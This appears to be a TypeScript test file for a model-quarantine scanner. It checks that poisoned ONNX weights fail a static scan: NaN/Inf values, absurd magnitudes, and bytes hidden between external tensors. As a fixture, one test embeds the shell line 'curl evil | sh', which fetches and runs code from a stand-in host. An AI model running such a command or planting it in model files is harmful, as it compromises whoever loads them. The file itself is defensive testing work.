// Poisoned ONNX weights: NaN/Inf and absurd magnitudes wherever the values sit (raw_data, float_data, float16 varints, Constant attributes, external data), and bytes hidden between external tensors. Stage 5 fails each.
import t, { type Test } from 'tap';
import { openSync, closeSync, writeSync, readFileSync, writeFileSync, mkdirSync } from 'node:fs';
import { join } from 'node:path';
import type { Finding } from '../../actors/quarantine/stages/static-scan.js';
import { concatBytes, encodeOnnx, floatTensor, pbBytes, randomNormal, type OnnxTensor } from '../fixtures/onnx-writer.js';
import { writeTinySdOnnx } from '../fixtures/tiny-sd-onnx.js';
import { tempDir, writeTo } from '../quarantine/helpers.js';
import { linearModel, rawGraph, rawModel, rawNode, rawTensor, runFormat, runStatic } from '../quarantine/onnx-helpers.js';

async function poisoned(t: Test, path: string, kind: 'file' | 'folder', rule: string, where: RegExp) {
  t.equal((await runFormat(path, kind)).verdict, 'pass', 'stage 2 cannot see values: the file is well-formed');
  const r = await runStatic(path, kind);
  t.equal(r.stage, 'static_scan');
  t.equal(r.verdict, 'fail', r.reason);
  const f = (r.evidence.findings as Finding[]).find((x) => x.rule === rule);
  t.ok(f, `finding ${rule}: ${r.reason}`);
  t.match(f?.where, where);
  return r;
}

const spiked = (at: number, value: number): Float32Array => { const w = randomNormal(64 * 64, 0.05, 5); w[at] = value; return w; };

t.test('onnx weights — NaN or Inf in an inline initializer fails stage 5', async (t) => {
  await poisoned(t, writeTo(tempDir(t), 'nan.onnx', encodeOnnx(linearModel({ weights: spiked(100, NaN) }))), 'file', 'non_finite_weights', /^nan\.onnx:fc1\.weight$/);
  await poisoned(t, writeTo(tempDir(t), 'inf.onnx', encodeOnnx(linearModel({ weights: spiked(7, -Infinity) }))), 'file', 'non_finite_weights', /fc1\.weight/);
});

t.test('onnx weights — absurd magnitudes fail stage 5 (the bounds GGUF and safetensors are held to)', async (t) => {
  const w = randomNormal(64 * 64, 0.05, 5).map((x) => x * 1e6);
  const r = await poisoned(t, writeTo(tempDir(t), 'big.onnx', encodeOnnx(linearModel({ weights: w }))), 'file', 'implausible_weights', /fc1\.weight/);
  t.match((r.evidence.findings as Finding[]).find((x) => x.rule === 'implausible_weights'), { statistic: /std|abs_max|mean/, tensor: 'fc1.weight' });
});

t.test('onnx weights — float16 raw data, packed float_data, a Constant attribute and float16 varints are all measured', async (t) => {
  const half = new Uint16Array(512).fill(0x3c00); // 1.0
  half[3] = 0x7e00; // NaN
  const h = writeTo(tempDir(t), 'half.onnx', encodeOnnx(linearModel({ initializers: [{ name: 'h.weight', dtype: 'float16', dims: [512], data: half }] })));
  await poisoned(t, h, 'file', 'non_finite_weights', /h\.weight/);
  const floats = new Float32Array(randomNormal(256, 0.05, 9));
  floats[10] = Infinity;
  const packed = rawModel(rawGraph('g', [rawNode('Relu', ['w'], ['y'])], [pbBytes(5, rawTensor('packed.weight', 1, [256], [pbBytes(4, new Uint8Array(floats.buffer))]))]));
  await poisoned(t, writeTo(tempDir(t), 'packed.onnx', packed), 'file', 'non_finite_weights', /packed\.weight/);
  const constant: OnnxTensor = floatTensor('', [64], Float32Array.from(randomNormal(64, 0.05, 1), (x, i) => (i === 5 ? NaN : x)));
  const m = linearModel();
  const withConst = encodeOnnx({ ...m, graph: { ...m.graph, nodes: [...m.graph.nodes, { op: 'Constant', inputs: [], outputs: ['c'], name: '/const', attrs: { value: { t: constant } } }] } });
  await poisoned(t, writeTo(tempDir(t), 'const.onnx', withConst), 'file', 'non_finite_weights', /\/const:value/);
  // FLOAT16 as one varint per value in int32_data (onnx.helper without raw=True): decoded, then measured.
  const values = Array.from({ length: 300 }, (_, i) => (i === 42 ? 0x7c00 : 0x3800 + (i % 64)));
  const varints = concatBytes(values.map((v) => Uint8Array.from([(v & 0x7f) | 0x80, (v >> 7) & 0x7f | (v >= 16384 ? 0x80 : 0), ...(v >= 16384 ? [v >> 14] : [])])));
  const vm = rawModel(rawGraph('g', [rawNode('Relu', ['w'], ['y'])], [pbBytes(5, rawTensor('varint.weight', 10, [300], [pbBytes(5, varints)]))]));
  await poisoned(t, writeTo(tempDir(t), 'varint.onnx', vm), 'file', 'non_finite_weights', /varint\.weight/);
});

t.test('onnx weights — NaN in external data (unet/model.onnx_data) fails stage 5 and names the data file', async (t) => {
  const root = join(tempDir(t), 'sd');
  writeTinySdOnnx(root, { externalData: true });
  const data = join(root, 'unet', 'model.onnx_data');
  const fd = openSync(data, 'r+');
  writeSync(fd, new Uint8Array(new Float32Array([NaN, Infinity]).buffer), 0, 8, 16);
  closeSync(fd);
  await poisoned(t, root, 'folder', 'non_finite_weights', /^unet\/model\.onnx_data:/);
});

t.test('onnx weights — bytes between or after external tensors must be zero: a hidden payload there fails stage 5', async (t) => {
  const root = join(tempDir(t), 'pipe');
  mkdirSync(join(root, 'unet'), { recursive: true });
  const w = new Uint8Array(randomNormal(64 * 64, 0.05, 3).buffer);
  const b = new Uint8Array(randomNormal(64, 0.02, 4).buffer);
  // fc1.weight at 0, fc1.bias at 20480: 4096 bytes between them, then a trailer.
  const file = new Uint8Array(20480 + 256 + 64);
  file.set(w, 0);
  file.set(b, 20480);
  file.set(new TextEncoder().encode('#!/bin/sh\ncurl evil | sh\n'), 17000);
  file.set(new TextEncoder().encode('PAYLOAD'), 20480 + 256 + 10);
  writeFileSync(join(root, 'unet', 'model.onnx_data'), file);
  const ext = (name: string, dims: number[], offset: number, length: number): OnnxTensor => ({ name, dtype: 'float32', dims, externalData: { location: 'model.onnx_data', offset, length } });
  writeFileSync(join(root, 'unet', 'model.onnx'), encodeOnnx(linearModel({ initializers: [ext('fc1.weight', [64, 64], 0, 16384), ext('fc1.bias', [64], 20480, 256)] })));
  const r = await poisoned(t, root, 'folder', 'nonzero_padding', /^unet\/model\.onnx_data$/);
  t.match(r.reason, /nonzero_padding|non-zero bytes/);
  t.ok(readFileSync(join(root, 'unet', 'model.onnx_data')).length > 20480);
});
